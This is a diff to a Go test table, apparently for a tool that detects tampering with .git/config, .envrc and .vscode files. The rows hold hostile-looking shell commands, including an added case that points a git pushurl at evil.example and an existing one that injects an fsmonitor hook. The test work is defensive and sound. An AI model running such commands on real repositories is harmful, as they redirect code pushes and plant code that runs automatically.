@@ -20,6 +20,7 @@ func TestWhatIsReplacedMeanwhileIsLookedAt(t *testing.T) {
 		{"git config user.name me", "", false, "name = me"},
 		{"git config alias.y y; git config --unset alias.y", "", false, "x = !mine"},
 		{"git config user.name me; printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config", ".git/config", false, "x = !mine"},
+		{"git config --unset alias.x; git config remote.o.pushurl https://evil.example", ".git/config", false, "x = !mine"},
 		{"sed -i s/mine/evil/ .envrc", ".envrc", true, "evil"},
 		{"cp .envrc a; rm .envrc; echo evil > .envrc", ".envrc", true, "evil"},
 		{"rm -r .vscode; mkdir .vscode; echo evil > .vscode/tasks.json", ".vscode", true, ""},
